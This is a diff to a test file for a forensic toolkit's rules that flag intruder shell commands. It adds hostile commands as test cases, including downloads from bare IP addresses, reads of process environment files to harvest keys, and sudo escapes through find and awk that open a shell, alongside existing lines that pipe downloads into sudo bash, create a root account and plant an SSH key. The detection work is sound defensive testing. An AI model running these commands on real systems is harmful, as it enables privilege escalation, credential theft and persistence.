@@ -16,6 +16,12 @@ from forensic_toolkit.rules.command_rules import first_match, matches
         ("curl -fsSL http://198.51.100.7/i.sh | sudo -E bash -", "Download piped into an interpreter"),
         ("curl -fsSL https://x.example/i.sh | sudo bash", "Download from a named host piped into an interpreter"),
         ("curl http://198.51.100.7/a -o /tmp/.x", "Download from a bare address"),
+        ("curl -O 198.51.100.7/I.sh", "Download from a bare address"),
+        ("cat /proc/1234/environ", "Environment of a process read"),
+        ("tr '\\0' '\\n' < /proc/$(pidof app)/environ", "Environment of a process read"),
+        ("strings /proc/1234/environ | grep KEY", "Credentials read from process memory"),
+        ("sudo find . -exec /bin/bash ;", "Setup of sudo abused"),
+        ("sudo awk 'BEGIN {exec \"sh\"}'", "Setup of sudo abused"),
         ("chmod u+s /bin/bash", "Set-user-id bit set"),
         ("useradd -ou 0 -g 0 evil -u 0", "Superuser account created"),
         ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "SSH key added"),
@@ -86,6 +92,9 @@ def test_commands_of_intruders(command: str, name: str) -> None:
     "command",
     [
         "ls -la",
+        "curl -I 203.0.113.10",
+        "curl -s --head http://203.0.113.10/",
+        "cat /proc/processIDhere/environ",
         "mdatp health",
         "vim /etc/systemd/journald.conf",
         "echo done >> /srv/app/build.log",
@@ -134,3 +143,16 @@ def test_hostile_commands_are_judged_in_time() -> None:
     ):
         first_match(text)
     assert time.process_time() - started < 20, "exponential time would be hours"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        r"sudo find /var/www/html -type d -exec chmod g+s {} \;",
+        r"sudo find /usr/share/nginx/html -type f -exec chmod 644 {} +",
+        "sudo find / -name core -exec shred -n 1 {} +",
+    ],
+)
+def test_what_find_does_for_an_administrator_is_no_abuse_of_sudo(command: str) -> None:
+    """From the shell history of a public web server."""
+    assert "Setup of sudo abused" not in {rule.name for rule in matches(command)}
